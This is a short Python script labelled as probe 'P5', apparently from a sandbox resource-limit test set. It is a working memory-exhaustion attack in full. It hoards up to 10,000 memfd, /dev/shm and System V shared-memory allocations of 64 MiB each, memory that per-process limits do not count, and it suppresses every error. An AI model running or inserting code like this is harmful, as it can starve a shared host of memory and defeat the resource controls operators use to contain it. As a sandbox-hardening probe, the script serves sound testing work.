# P5: memory that no limit on a process counts: memfd, shared memory, /dev/shm
def _attack():
    import ctypes
    import mmap
    import os

    hoard = []
    libc = ctypes.CDLL(None)
    for number in range(10_000):
        for make in (
            lambda: os.memfd_create("x"),
            lambda: os.open(f"/dev/shm/x{number}", os.O_CREAT | os.O_RDWR),
            lambda: libc.shmget(0, 1 << 26, 0o1600),
        ):
            try:
                fd = make()
                hoard.append(fd)
                if fd > 0:
                    os.truncate(fd, 1 << 26)
                    mmap.mmap(fd, 1 << 26).write(b"x" * (1 << 26))
            except (OSError, ValueError):
                pass


try:
    _attack()
except BaseException:
    pass
